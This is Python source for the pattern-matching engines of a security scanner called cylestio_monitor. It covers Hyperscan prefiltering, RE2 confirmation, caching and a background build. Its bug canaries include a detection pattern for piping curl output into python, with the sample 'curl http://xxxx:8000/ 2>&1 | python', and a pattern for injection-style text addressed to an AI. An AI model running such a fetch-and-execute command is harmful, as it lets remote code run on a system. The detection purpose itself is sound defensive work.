"""Matching engines behind :class:`~cylestio_monitor.security.scanner.Scanner` (private).

Every engine returns exactly what the *reference* does: each rule's RE2 regex run over the
whole text (``finditer`` from offset 0), its ``value`` group, then the rule's allow-list and
validators. The engines differ only in how they avoid running 200+ regexes over every text:

``hyperscan`` (default where the wheel exists)
    One Hyperscan database of every rule (and every score cue), each expression in
    *single-match* mode: one pass over the text reports which rules match and, for each, the
    end offset ``to`` of its first match. RE2 then runs only for those rules, and only from
    ``to - W`` (``W`` = the rule's maximum match width, when it is bounded), which cannot skip
    a match: the leftmost RE2 match ends at or after ``to`` and is at most ``W`` long.

    Hyperscan scans bytes, RE2 code points. So Hyperscan scans a *folded* copy of the text
    with one byte per code point (ASCII as is, every other code point ``0xFF``) and its
    expressions are rewritten to match (non-ASCII characters in a pattern become ``\\xff``,
    and are dropped from negated classes). On that copy every RE2 match is also a Hyperscan
    match of the rewritten expression with the same code-point span, so Hyperscan offsets are
    code-point offsets and a rule Hyperscan does not report cannot match. Two cases fall
    outside and use the reference: texts that are not valid UTF-8 (lone surrogates) and
    texts with U+212A KELVIN SIGN or U+017F LONG S, which RE2 case-folds to ASCII ``k``/``s``.

    Hyperscan need not see the patterns as they are: all the confirm relies on is that every
    RE2 match *ends* where a Hyperscan match ends. So a leading context group such as
    ``(?:^|[^a-z0-9])`` is dropped (:func:`drop_leading_context`), a pattern ``X[\\s\\S]*Y``
    is looked for as ``Y`` (:func:`keep_tail_after_anything`) and, for rules confirmed from
    offset 0 anyway, only the alternatives that carry the ``value`` group are looked for
    (:func:`value_branches`). The confirm also starts after the last *stop character* before
    ``to`` (:func:`stop_characters`: a character no match contains but as its last, e.g. any
    non-ASCII character or ``;`` for a token). A score cue is confirmed only when the cues
    Hyperscan reports for its score can reach the threshold (:meth:`_Engine.set_cue_gate`).

    All of this holds as well when Hyperscan looks for a *prefix* of every match instead of the
    match: its first end is then no later than any match's end. So a rule of unbounded width
    that Hyperscan cannot compile exactly is looked for by its *head* (:func:`leading_part`, the
    bounded leading items of each alternative, e.g. the provider names of
    ``provider-named-credential``): exact, cheap, and it bounds the confirm's start too (no match
    starts before the head's first end minus the head's width). Other expressions Hyperscan
    cannot compile exactly are compiled in pre-filter mode (a superset, same guarantee); ones it
    cannot compile at all run RE2 on every text. The compiled
    database is cached on disk (see :func:`cache_dir`), keyed by the expressions, the
    Hyperscan version and the CPU, so only the first process on a machine pays the compile;
    with ``auto`` that process scans with ``re2set`` meanwhile (:class:`BackgroundEngine`).

``re2set``
    One RE2 ``Set`` tells which rules match; those run RE2 over the whole text.

``keywords``
    Rules whose lower-case keywords occur (or that have none) run RE2 over the whole text.
    Keywords are documentation, not a guarantee: this engine can miss matches.

``re2``
    The reference: every rule, every text.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import threading
import weakref
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence, Set, Tuple

import re2

from ._hs_cache import _cpu_signature, _read_json, _write_json, cache_dir
from ._hs_patterns import (
    _Untranslatable,
    drop_leading_context,
    fold_utf8,
    hyperscan_expression,
    keep_tail_after_anything,
    leading_part,
    max_width,
    value_branches,
)
from ._rules import Rule
from ._stop_chars import stop_characters

__all__ = ["ENGINES", "BackgroundEngine", "Raw", "cache_dir", "make_engine"]

ENGINES = ("hyperscan", "re2set", "keywords", "re2")

# (start, end) in code points, the rule, its index in the engine's rule list
Raw = Tuple[int, int, Rule, int]

_FORMAT = "cylestio-hs-2"  # bump when the expression rewriting or the cache layout changes
_NULL = (-1, -1)
# Not a Hyperscan flag: in a compile mode, "Hyperscan looks for the rule's head instead"
_HEAD = 1 << 28

try:  # the C++ object behind re2.compile(): one call per search, no generator per match
    _UNANCHORED: Any = re2._re2.RE2.Anchor.UNANCHORED  # type: ignore[attr-defined]
except AttributeError:  # pragma: no cover - another google-re2 layout
    _UNANCHORED = None


def _raw_match(rx: Any) -> Any:
    """``rx``'s C++ ``Match(anchor, data, pos, endpos) -> spans`` or ``None`` if unavailable."""
    inner = getattr(rx, "_regexp", None)
    if _UNANCHORED is None or inner is None or not hasattr(inner, "Match"):
        return None  # pragma: no cover
    return inner.Match


def _compile(pattern: str, what: str) -> Any:
    try:
        return re2.compile(pattern.encode())
    except re2.error as exc:
        raise ValueError(f"{what}: invalid RE2 pattern: {exc}") from None


class _Compiled:
    """A rule's RE2 program, its ``value`` group and the fast search entry point.

    ``check`` says how a value is judged: ``True`` (a plain :class:`Rule` with no allow-list and
    no validators: always accepted), an ``int`` shared by the plain rules with the same allow-list
    and validators (they judge a value alike, so one scan judges it once), or ``None`` (a rule
    type of its own: :meth:`Rule.accepts` every time).
    """

    __slots__ = ("check", "group", "match", "rule", "rx")

    def __init__(self, rule: Rule, checks: Optional[Dict[Tuple[Tuple[str, ...], Tuple[str, ...]], int]] = None) -> None:
        self.rule = rule
        self.rx = _compile(rule.pattern, f"rule {rule.id!r}")
        self.group = self.rx.groupindex.get(b"value", 0)
        self.match = _raw_match(self.rx)
        self.check: Any = None
        if type(rule) is Rule and checks is not None:
            if not rule.allow and not rule.validators:
                self.check = True
            else:
                self.check = checks.setdefault((rule.allow, rule.validators), len(checks))


def _accepts(comp: _Compiled, value: str, memo: Dict[Tuple[int, str], bool]) -> bool:
    """Whether ``comp``'s rule accepts ``value``; rules sharing a check (see :class:`_Compiled`)
    judge a value once per scan (validators are pure functions of the value)."""
    check = comp.check
    if check is None:
        return bool(comp.rule.accepts(value))
    key = (check, value)
    found = memo.get(key)
    if found is None:
        found = memo[key] = comp.rule.accepts(value)
    return found


def _judge(spans: List[Tuple[int, int, _Compiled, int]], text: str, out: List[Raw]) -> None:
    """Append the spans (code points) whose value their rule accepts; each distinct (check,
    value) is judged once (validators are pure functions of the value)."""
    memo: Dict[Tuple[int, str], bool] = {}
    for s, e, comp, index in spans:
        check = comp.check
        if check is True:
            out.append((s, e, comp.rule, index))
            continue
        if _accepts(comp, text[s:e], memo):
            out.append((s, e, comp.rule, index))


def _judge_utf8(spans: List[Tuple[int, int, _Compiled, int]], data: bytes, text: str, out: List[Raw]) -> None:
    """:func:`_judge` for byte spans into ``data``, the UTF-8 of ``text``: values are decoded from
    the bytes, and only the accepted spans (few: validators reject most look-alikes) are turned
    into code points. A span that starts or ends inside a character goes the long way."""
    n = len(data)
    for bs, be, _, _ in spans:
        if (bs < n and 0x80 <= data[bs] < 0xC0) or (be < n and 0x80 <= data[be] < 0xC0):
            _judge(_to_code_points(data, spans), text, out)
            return
    memo: Dict[Tuple[int, str], bool] = {}
    kept: List[Tuple[int, int, _Compiled, int]] = []
    for span in spans:
        comp = span[2]
        check = comp.check
        if check is True:
            kept.append(span)
            continue
        if _accepts(comp, data[span[0] : span[1]].decode("utf-8"), memo):
            kept.append(span)
    if kept:
        for s, e, comp, index in _to_code_points(data, kept):
            out.append((s, e, comp.rule, index))


# -- the reference semantics ------------------------------------------------------------------

_CONTINUATION = bytes(range(0x80, 0xC0))


def utf8_chars(data: bytes) -> int:
    """How many whole code points ``data`` holds: a slice of UTF-8 from ``str.encode("utf-8",
    "surrogatepass")``, so a lone surrogate (three bytes) counts as the one code point it is in the
    text (decoding with ``"ignore"`` dropped it and shifted every later offset by one). Bytes of a
    character cut by either end of the slice (a ``\\C`` match) count for nothing, as ``"ignore"``
    has it."""
    n = len(data)
    i = 0
    while i < n and 0x80 <= data[i] < 0xC0:  # the tail of a character cut by the start
        i += 1
    j = n
    k = n - 1
    while k > i and n - k < 4 and 0x80 <= data[k] < 0xC0:
        k -= 1
    if k >= i and data[k] >= 0xC0:  # the last character's lead byte: is the character whole?
        need = 2 if data[k] < 0xE0 else 3 if data[k] < 0xF0 else 4
        if n - k < need:
            j = k
    return len(data[i:j].translate(None, _CONTINUATION))



def _accepted_full(c: _Compiled, index: int, text: str, data: bytes, ascii_only: bool, out: List[Raw]) -> None:
    """Append rule ``c``'s accepted matches over all of ``data`` (the reference, public re2 API)."""
    rule, group = c.rule, c.group
    for m in c.rx.finditer(data):
        bs, be = m.start(group), m.end(group)
        if bs < 0 or be <= bs:
            continue
        if ascii_only:
            s, e = bs, be
        else:
            s = utf8_chars(data[:bs])
            e = s + utf8_chars(data[bs:be])
        if rule.accepts(text[s:e]):
            out.append((s, e, rule, index))


class _Engine:
    """Base: compiled rules and extra patterns (score cues)."""

    name = "re2"

    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
        self.rules = tuple(rules)
        checks: Dict[Tuple[Tuple[str, ...], Tuple[str, ...]], int] = {}
        self.compiled = [_Compiled(r, checks) for r in self.rules]
        self.extra = [_compile(p, f"cue {i}") for i, p in enumerate(extra_patterns)]
        self.extra_patterns = tuple(extra_patterns)

    # Extra patterns (score cues) grouped by the score they add to: (threshold, [(cue, weight)]).
    # A cue a pre-filter reports only matters when the positive weights of all the cues of its
    # score that the pre-filter reports can reach the threshold (the cues really present are a
    # subset, negative weights only lower the sum): otherwise the score cannot fire on this text,
    # and its cues are neither confirmed nor reported. ``None``: every reported cue is confirmed.
    _gate: Optional[List[Tuple[float, List[int]]]] = None
    _gate_of: Optional[List[int]] = None
    _gate_weight: Optional[List[float]] = None

    def set_cue_gate(self, scores: Sequence[Tuple[float, Sequence[Tuple[int, float]]]]) -> None:
        """Tell the engine the weights and thresholds of the scores its extra patterns are cues of."""
        n = len(self.extra)
        of = [-1] * n
        weight = [0.0] * n
        gate: List[Tuple[float, List[int]]] = []
        for g, (threshold, cues) in enumerate(scores):
            members = []
            for i, w in cues:
                if not 0 <= i < n or of[i] != -1:
                    raise ValueError(f"cue {i}: out of range or in two scores")
                of[i] = g
                weight[i] = max(w, 0.0)
                members.append(i)
            gate.append((threshold, members))
        if any(g == -1 for g in of):
            raise ValueError("every extra pattern must belong to a score")
        self._gate, self._gate_of, self._gate_weight = gate, of, weight

    def _gated(self, cues: Sequence[int]) -> Set[int]:
        """The cues among ``cues`` (a superset of those present) whose score can still fire."""
        assert self._gate is not None and self._gate_of is not None and self._gate_weight is not None
        of, weight = self._gate_of, self._gate_weight
        reach = [0.0] * len(self._gate)
        for i in cues:
            reach[of[i]] += weight[i]
        # a margin far above rounding, far below any weight: never drops a score that can fire
        return {i for i in cues if reach[of[i]] >= self._gate[of[i]][0] - 1e-6}

    def candidates(self, data: bytes) -> Sequence[int]:
        return range(len(self.compiled))

    def scan(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
        """Accepted matches of every rule, and the extra patterns present (``None``: not computed)."""
        data = text.encode("utf-8", "surrogatepass")
        ascii_only = len(data) == len(text)
        out: List[Raw] = []
        compiled = self.compiled
        for i in self.candidates(data):
            _accepted_full(compiled[i], i, text, data, ascii_only, out)
        return out, None

    def extra_present(self, text: str) -> List[int]:
        """The extra patterns that match ``text`` (reference: each searched over the whole text)."""
        data = text.encode("utf-8", "surrogatepass")
        return [i for i, rx in enumerate(self.extra) if rx.search(data) is not None]


class ReferenceEngine(_Engine):
    """Every rule's RE2 over the full text: the definition the fast engines must equal."""

    name = "re2"


class Re2SetEngine(_Engine):
    """RE2 ``Set`` pre-filter (no Hyperscan): which rules and cues match, in a few DFA passes.

    One ``Set`` of every pattern needs more DFA memory than is sensible (it falls back to
    confirming every rule), so the patterns are split into groups of :attr:`GROUP`, one ``Set``
    each. A cue a ``Set`` reports is present (a ``Set`` match is an RE2 match); a rule it reports
    runs its own regex over the text for the spans. A group whose DFA still runs out of memory
    on a text has all its members confirmed one by one (linear all the same).
    """

    name = "re2set"
    GROUP = 32

    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
        super().__init__(rules, extra_patterns)
        patterns = [r.pattern for r in self.rules] + list(self.extra_patterns)
        self._groups: List[Tuple[Any, List[int]]] = []
        for start in range(0, len(patterns), self.GROUP):
            members = list(range(start, min(start + self.GROUP, len(patterns))))
            opts = re2.Options()
            opts.max_mem = 64 << 20
            group = re2.Set.SearchSet(opts)
            for k in members:
                group.Add(patterns[k].encode())
            group.Compile()
            self._groups.append((group, members))

    def scan(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
        data = text.encode("utf-8", "surrogatepass")
        ascii_only = len(data) == len(text)
        n_rules = len(self.compiled)
        out: List[Raw] = []
        present: List[int] = []
        unsure: List[int] = []  # cues of a group whose DFA ran out of memory: maybe present
        for group, members in self._groups:
            hits = group.Match(data)
            exhausted = hits is None  # the DFA ran out of memory on this text
            for k in members if exhausted else [members[h] for h in hits]:
                if k < n_rules:
                    _accepted_full(self.compiled[k], k, text, data, ascii_only, out)
                elif exhausted:
                    unsure.append(k - n_rules)
                else:
                    present.append(k - n_rules)
        if self._gate is not None and (present or unsure):
            keep = self._gated(present + unsure)
            present = [i for i in present if i in keep]
            unsure = [i for i in unsure if i in keep]
        present.extend(i for i in unsure if self.extra[i].search(data) is not None)
        present.sort()
        return out, present


class KeywordsEngine(_Engine):
    """Pre-filter on lower-case keywords only (rules without keywords always run). Not exact."""

    name = "keywords"

    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
        super().__init__(rules, extra_patterns)
        self._always = [i for i, r in enumerate(self.rules) if not r.keywords]
        self._kw = [(i, tuple(k.encode() for k in r.keywords)) for i, r in enumerate(self.rules) if r.keywords]

    def candidates(self, data: bytes) -> Sequence[int]:
        low = data.lower()
        out = list(self._always)
        for i, kws in self._kw:
            if any(k in low for k in kws):
                out.append(i)
        return sorted(out)


# -- Hyperscan ----------------------------------------------------------------------------------

def _on_match(index: int, _from: int, to: int, _flags: int, hits: Any) -> None:
    hits.append((index, to))


# Matches that some Hyperscan builds miss. Vectorscan 5.4.12 (bundled by the ``hyperscan``
# wheels from 0.7.23 on, 0.9.1 included) has a double-shufti acceleration bug that silently
# drops matches (VectorCamp/vectorscan#358, #382; fixed upstream after 5.4.12); 5.4.11
# (``hyperscan`` <= 0.7.21) finds all of these. An engine that misses a match is not used.
_CANARIES = (
    (b"curl.*\\|\\s*python", 2, b"curl http://xxxx:8000/ 2>&1 | python"),  # 2 = HS_FLAG_DOTALL
    (
        b"(?i)(?:hi|hello|dear)\\s+(?:ai|chatgpt)[^\\n]*\\b(?:this\\s+is|run)\\b",
        0,
        b"Hello ChatGPTme to be real. This is",
    ),
)
_canary_verdict: Dict[str, Optional[str]] = {}


def hyperscan_defect() -> Optional[str]:
    """``None`` when the installed Hyperscan finds the canary matches, else what it missed."""
    import hyperscan

    key = getattr(hyperscan, "__version__", "?")
    if key not in _canary_verdict:
        missed = []
        for i, (expr, flags, data) in enumerate(_CANARIES):
            db = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
            db.compile(expressions=[expr], ids=[i], elements=1, flags=flags | hyperscan.HS_FLAG_SINGLEMATCH)
            hits: List[Tuple[int, int]] = []
            db.scan(data, match_event_handler=_on_match, context=hits, scratch=hyperscan.Scratch(db))
            if not hits:
                missed.append(expr.decode())
        _canary_verdict[key] = (
            f"hyperscan {key} misses matches of {missed} (a Vectorscan 5.4.12 defect); "
            "install hyperscan<0.7.22 (Vectorscan 5.4.11)"
            if missed
            else None
        )
    return _canary_verdict[key]


class NotCached(Exception):
    """The Hyperscan database of these rules is not in the cache (see ``cached_only``)."""


class HyperscanEngine(_Engine):
    """See the module docstring. Thread-safe: one Hyperscan scratch per thread."""

    name = "hyperscan"

    def __init__(
        self,
        rules: Sequence[Rule],
        extra_patterns: Sequence[str] = (),
        *,
        cache: Optional[Path] = None,
        use_cache: bool = True,
        cached_only: bool = False,
    ) -> None:
        """``cached_only``: raise :class:`NotCached` rather than compile a database not in the cache."""
        import hyperscan

        super().__init__(rules, extra_patterns)
        self._hs = hyperscan
        patterns = [r.pattern for r in self.rules] + list(self.extra_patterns)
        n_rules = self._n_rules = len(self.rules)
        # per expression: (kind 0 rule / 1 extra, index, compiled, max width)
        self._meta: List[Tuple[int, int, Any, Optional[int]]] = []
        # per expression: its stop characters, computed on its first hit (most never hit)
        self._patterns = patterns
        self._stops: List[Optional[bytes]] = [None] * len(patterns)
        exprs: List[bytes] = []
        ids: List[int] = []
        always: List[int] = []  # expressions Hyperscan cannot take: RE2 on every text
        # for a rule of unbounded width: its head (leading_part), looked for in its stead when
        # Hyperscan cannot compile the rule's expression exactly; (expression, head width)
        heads: Dict[int, Tuple[bytes, int]] = {}
        extra_match = [_raw_match(rx) for rx in self.extra]
        self._extra_raw = all(m is not None for m in extra_match)
        for k, p in enumerate(patterns):
            if k < n_rules:
                comp: Any = self.compiled[k]
            else:  # score cues: the C++ search entry point when available
                comp = extra_match[k - n_rules] if self._extra_raw else self.extra[k - n_rules]
            width = max_width(p)
            self._meta.append((0 if k < n_rules else 1, k if k < n_rules else k - n_rules, comp, width))
            if k < n_rules and width is None:  # confirmed from offset 0: only value-bearing matches count
                p = value_branches(p)
            try:
                exprs.append(hyperscan_expression(keep_tail_after_anything(drop_leading_context(p))))
                ids.append(k)
            except (_Untranslatable, ValueError):
                always.append(k)
                continue
            head = leading_part(p) if k < n_rules and width is None else None
            if head is not None:
                try:
                    heads[k] = (hyperscan_expression(head[0]), head[1])
                except (_Untranslatable, ValueError):
                    pass
        base = hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_ALLOWEMPTY
        flags = [base] * len(exprs)
        self.cache_path: Optional[Path] = None
        self.from_cache = False
        db = None
        where = (cache or cache_dir()) if use_cache else None
        if where is not None:
            key = hashlib.sha256(
                json.dumps(
                    [
                        _FORMAT,
                        getattr(hyperscan, "__version__", ""),
                        getattr(getattr(hyperscan, "_hs_ext", None), "__version__", ""),
                        _cpu_signature(),
                        [e.decode() for e in exprs],
                        flags,
                        sorted((k, e.decode(), w) for k, (e, w) in heads.items()),
                    ]
                ).encode()
            ).hexdigest()
            self.cache_path = where / f"hs-{key[:40]}.db"
            loaded = self._load(self.cache_path)
            if loaded is not None:
                db, ids, flags, extra_always = loaded
                always = sorted(set(always) | set(extra_always))
                self.from_cache = True
        if db is None:
            if cached_only:
                raise NotCached()
            db, ids, flags, extra_always = self._compile(exprs, ids, flags, where, heads)
            always = sorted(set(always) | set(extra_always))
            if self.cache_path is not None and db is not None:
                self._store(self.cache_path, db, ids, flags, extra_always)
        self._db = db
        self._always = always
        self.prefilter_ids = [i for i, f in zip(ids, flags) if f & hyperscan.HS_FLAG_PREFILTER]
        # rules Hyperscan looks for by their head: no match starts before its first end - width
        self._head_width = {i: heads[i][1] for i, f in zip(ids, flags) if f & _HEAD}
        self._local = threading.local()
        self._scratch0 = hyperscan.Scratch(db) if db is not None else None

    # -- build ----------------------------------------------------------------------------
    def _compile(
        self,
        exprs: List[bytes],
        ids: List[int],
        flags: List[int],
        where: Optional[Path] = None,
        heads: Optional[Dict[int, Tuple[bytes, int]]] = None,
    ) -> Tuple[Any, List[int], List[int], List[int]]:
        """One database of every expression; the ones Hyperscan cannot compile exactly replaced
        by their rule's head (``heads``, by id; mode flag ``_HEAD``) when it has one Hyperscan
        compiles exactly, else in pre-filter mode; the ones it cannot compile at all left to RE2.

        Finding those takes one compile per expression (a few seconds), so the outcome per
        expression is kept in ``where`` (``hs-modes-<version>.json``) for the next build.
        """
        hs = self._hs
        if not exprs:  # nothing Hyperscan can take
            return None, ids, flags, []
        modes_path = where / f"hs-modes-{getattr(hs, '__version__', '')}.json" if where is not None else None
        known = _read_json(modes_path) if modes_path is not None else {}
        alt = [(heads or {}).get(i, (None, 0))[0] for i in ids]
        digests = [
            hashlib.sha256(e + b"|%d" % f + (b"|" + a if a is not None else b"")).hexdigest()[:32]
            for e, f, a in zip(exprs, flags, alt)
        ]
        modes = [known.get(d) for d in digests]  # None: not known yet, -1: Hyperscan cannot
        db, keep = self._try(exprs, ids, flags, modes, alt)
        if db is None:
            if all(m is not None for m in modes):  # stale: find out again
                modes = [None] * len(modes)
            # A failing database fails fast; compiling one that works is what takes time. So
            # probe the expressions alone, largest first, and retry the whole after each one
            # that needs pre-filter mode (or cannot be compiled at all).
            for k in sorted((k for k, m in enumerate(modes) if m is None), key=lambda k: -len(exprs[k])):
                modes[k] = self._probe(exprs[k], flags[k], alt[k])
                if modes[k] != flags[k]:
                    db, keep = self._try(exprs, ids, flags, modes, alt)
                    if db is not None:
                        break
            else:
                db, keep = self._try(exprs, ids, flags, modes, alt)
                if db is None:
                    raise hs.error("Hyperscan cannot compile the rules")
        used = iter(k[2] for k in keep)
        done: List[int] = [-1 if m == -1 else next(used) | ((m or 0) & _HEAD) for m in modes]
        if modes_path is not None:
            known.update(zip(digests, done))
            _write_json(modes_path, known)
        head_ids = {i for i, m in zip(ids, done) if m != -1 and m & _HEAD}
        kept_flags = [f | _HEAD if i in head_ids else f for _, i, f in keep]
        return db, [k[1] for k in keep], kept_flags, [i for i, m in zip(ids, done) if m == -1]

    def _try(
        self,
        exprs: List[bytes],
        ids: List[int],
        flags: List[int],
        modes: List[Optional[int]],
        alt: List[Optional[bytes]],
    ) -> Tuple[Any, List[Tuple[bytes, int, int]]]:
        """The database with each expression in its known mode (unknown: as asked), or None."""
        keep = []
        for e, i, f, m, a in zip(exprs, ids, flags, modes, alt):
            if m == -1:
                continue
            if m is not None and m & _HEAD and a is not None:
                keep.append((a, i, m & ~_HEAD))
            else:
                keep.append((e, i, (f if m is None else m) & ~_HEAD))
        try:
            return self._build([k[0] for k in keep], [k[1] for k in keep], [k[2] for k in keep]), keep
        except self._hs.error:
            return None, keep

    def _probe(self, expr: bytes, flags: int, head: Optional[bytes] = None) -> int:
        """How ``expr`` compiles alone: exactly (``flags``), as its rule's ``head`` (``flags |
        _HEAD``), in pre-filter mode, or not (-1)."""
        tries = [(expr, flags)]
        if head is not None:
            tries.append((head, flags | _HEAD))
        tries.append((expr, flags | self._hs.HS_FLAG_PREFILTER))
        for e, mode in tries:
            try:
                self._build([e], [0], [mode & ~_HEAD])
            except self._hs.error:
                continue
            return mode
        return -1

    def _build(self, exprs: List[bytes], ids: List[int], flags: List[int]) -> Any:
        db = self._hs.Database(mode=self._hs.HS_MODE_BLOCK)
        db.compile(expressions=exprs, ids=ids, elements=len(exprs), flags=flags)
        return db

    def _load(self, path: Path) -> Optional[Tuple[Any, List[int], List[int], List[int]]]:
        try:
            blob = path.read_bytes()
            head, _, body = blob.partition(b"\n")
            meta = json.loads(head)
            if meta.get("format") != _FORMAT or hashlib.sha256(body).hexdigest() != meta.get("sha256"):
                return None
            db = self._hs.loadb(body, self._hs.HS_MODE_BLOCK)
            return db, list(meta["ids"]), list(meta["flags"]), list(meta["always"])
        except (OSError, ValueError, KeyError, TypeError, self._hs.error):
            return None

    def _store(self, path: Path, db: Any, ids: List[int], flags: List[int], always: List[int]) -> None:
        try:
            body = self._hs.dumpb(db)
            digest = hashlib.sha256(body).hexdigest()
            head = json.dumps({"format": _FORMAT, "sha256": digest, "ids": ids, "flags": flags, "always": always})
            path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
            tmp = path.with_name(f".{path.name}.{os.getpid()}.{threading.get_ident()}.tmp")
            tmp.write_bytes(head.encode() + b"\n" + body)
            os.replace(tmp, path)
        except (OSError, self._hs.error):
            pass  # a read-only or full disk only costs the next process a compile

    # -- scan -----------------------------------------------------------------------------
    def _scratch(self) -> Any:
        scratch = getattr(self._local, "scratch", None)
        if scratch is None:
            assert self._scratch0 is not None
            scratch = self._local.scratch = self._scratch0.clone()
        return scratch

    def scan(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
        if text.isascii():
            data = text.encode("ascii")
            folded = data
            ascii_only = True
        else:
            if "\u212a" in text or "\u017f" in text:
                return self._reference(text)
            try:
                data = text.encode("utf-8")
            except UnicodeEncodeError:  # lone surrogates
                return self._reference(text)
            folded = fold_utf8(data)
            ascii_only = False
        hits: List[Tuple[int, int]] = []
        if self._db is not None:
            self._db.scan(folded, match_event_handler=_on_match, context=hits, scratch=self._scratch())
        for k in self._always:
            hits.append((k, 0))
        out: List[Raw] = []
        present: List[int] = []
        if not hits:
            return out, present
        n = len(data)
        byte_spans: List[Tuple[int, int, _Compiled, int]] = []
        meta = self._meta
        extra_raw = self._extra_raw
        keep: Optional[Set[int]] = None  # None: confirm every cue reported
        if self._gate is not None:
            n_rules = self._n_rules
            keep = self._gated([k - n_rules for k, _ in hits if k >= n_rules])
        starts: List[Tuple[int, int]] = []  # (expression, code point where its confirm starts)
        all_stops = self._stops
        head_width = self._head_width
        for k, to in hits:
            kind, index, comp, width = meta[k]
            if kind and keep is not None and index not in keep:
                continue
            # the leftmost match ends at or after `to` and is at most `width` code points long
            pos = to - width if width is not None and to > width else 0
            if k in head_width and to > head_width[k]:  # `to`: the first end of the rule's head
                pos = to - head_width[k]
            # and it does not contain a stop character but as its last (see stop_characters)
            stops = all_stops[k]
            if stops is None:  # a pure function of the pattern: a race computes it twice, alike
                stops = all_stops[k] = stop_characters(self._patterns[k])
            for c in stops:
                j = folded.rfind(c, pos, to - 1)
                if j >= 0:
                    pos = j + 1
            starts.append((k, pos))
        if not ascii_only:  # code points to UTF-8 offsets, in one pass over the text
            starts = _to_bytes(text, starts)
        for k, pos in starts:
            kind, index, comp, width = meta[k]
            if kind:  # a score cue: does it match at all?
                found = comp(_UNANCHORED, data, pos, n)[0] != _NULL if extra_raw else comp.search(data, pos)
                if found:
                    present.append(index)
                continue
            match = comp.match
            group = comp.group
            if match is None:  # pragma: no cover - public API fallback
                for m in comp.rx.finditer(data, pos):
                    bs, be = m.start(group), m.end(group)
                    if 0 <= bs < be:
                        byte_spans.append((bs, be, comp, index))
                continue
            while True:  # re2's finditer, one C++ call per match
                spans = match(_UNANCHORED, data, pos, n)
                whole = spans[0]
                if whole == _NULL:
                    break
                bs, be = spans[group]
                if 0 <= bs < be:
                    byte_spans.append((bs, be, comp, index))
                end = whole[1]
                if pos == n:
                    break
                pos = pos + 1 if pos == end else end
        if ascii_only:
            _judge(byte_spans, text, out)
        elif byte_spans:
            _judge_utf8(byte_spans, data, text, out)
        present.sort()
        return out, present

    def _reference(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
        data = text.encode("utf-8", "surrogatepass")
        ascii_only = len(data) == len(text)
        out: List[Raw] = []
        for i, c in enumerate(self.compiled):
            _accepted_full(c, i, text, data, ascii_only, out)
        return out, None


_warned: Set[str] = set()


def _warn_once(message: str) -> None:
    if message not in _warned:
        _warned.add(message)
        logging.getLogger("cylestio_monitor.security").warning(message)


def _to_bytes(text: str, starts: List[Tuple[int, int]]) -> List[Tuple[int, int]]:
    """``(k, code point offset)`` pairs with the offsets made UTF-8 byte offsets into ``text``
    (valid UTF-8), each segment of the text encoded once."""
    where: Dict[int, int] = {0: 0}
    last_c = last_b = 0
    for o in sorted({pos for _, pos in starts}):
        if o:
            last_b += len(text[last_c:o].encode("utf-8"))
            last_c = o
            where[o] = last_b
    return [(k, where[pos]) for k, pos in starts]


def _to_code_points(data: bytes, spans: List[Tuple[int, int, Any, int]]) -> List[Tuple[int, int, Any, int]]:
    """Byte spans of valid UTF-8 ``data`` to code-point spans, in one pass over the data."""
    offsets = sorted({o for s, e, _, _ in spans for o in (s, e)})
    where: Dict[int, int] = {}
    last_b = last_c = 0
    try:
        for o in offsets:
            last_c += len(data[last_b:o].decode("utf-8"))
            last_b = o
            where[o] = last_c
    except UnicodeDecodeError:  # an offset inside a character (a \\C pattern): as the reference does
        out = []
        for s, e, c, i in spans:
            cs = utf8_chars(data[:s])
            out.append((cs, cs + utf8_chars(data[s:e]), c, i))
        return out
    return [(where[s], where[e], c, i) for s, e, c, i in spans]


class BackgroundEngine:
    """The RE2-``Set`` engine while Hyperscan compiles in a daemon thread, then Hyperscan.

    Compiling the Hyperscan database of the built-in rules takes seconds (Hyperscan releases
    the GIL meanwhile); a process whose cache does not hold it yet (the first on a machine, an
    ephemeral container) scans at once with the RE2-``Set`` engine, whose results are the same,
    and switches when the database is ready (and cached for the next process). ``name`` is the
    engine serving now; ``ready`` is set when the build has ended (also when it failed: then the
    RE2-``Set`` engine stays, with a warning). A process forked before the build ended (a
    pre-forking server that built the scanner in its master) starts the build again in the
    child, where the parent's thread does not exist.
    """

    def __init__(self, rules: Sequence[Rule], extra_patterns: Sequence[str] = ()) -> None:
        self._current: _Engine = Re2SetEngine(rules, extra_patterns)
        self._gate: Optional[Sequence[Tuple[float, Sequence[Tuple[int, float]]]]] = None
        self._args = (tuple(rules), tuple(extra_patterns))
        self._start()
        _building.add(self)

    def _start(self) -> None:
        self._lock = threading.Lock()
        self.ready = threading.Event()
        self._thread = threading.Thread(target=self._build, args=self._args, name="cylestio-hyperscan", daemon=True)
        self._thread.start()

    def _after_fork_in_child(self) -> None:
        if not self.ready.is_set():  # the building thread stayed in the parent
            self._start()

    @property
    def name(self) -> str:
        return self._current.name

    @property
    def rules(self) -> Tuple[Rule, ...]:
        return self._current.rules

    def _build(self, rules: Sequence[Rule], extra_patterns: Sequence[str]) -> None:
        try:
            # One build at a time per process: scanners made while a build runs (several per
            # process, or many in a test suite on a machine with nothing cached) wait for it and
            # then load its database from the disk cache, instead of all compiling at once.
            with _build_lock:
                engine = HyperscanEngine(rules, extra_patterns)
        except Exception as exc:  # hyperscan.error (e.g. out of memory), anything unexpected
            _warn_once(f"Hyperscan could not compile the rules ({exc}); using the slower RE2 engine")
            self.ready.set()
            return
        with self._lock:
            if self._gate is not None:
                engine.set_cue_gate(self._gate)
            self._current = engine
        self.ready.set()
        _building.discard(self)

    def set_cue_gate(self, scores: Sequence[Tuple[float, Sequence[Tuple[int, float]]]]) -> None:
        with self._lock:
            self._gate = scores
            self._current.set_cue_gate(scores)

    def scan(self, text: str) -> Tuple[List[Raw], Optional[List[int]]]:
        return self._current.scan(text)


# background builds not finished yet: restarted in a forked child (see BackgroundEngine)
_building: weakref.WeakSet[BackgroundEngine] = weakref.WeakSet()
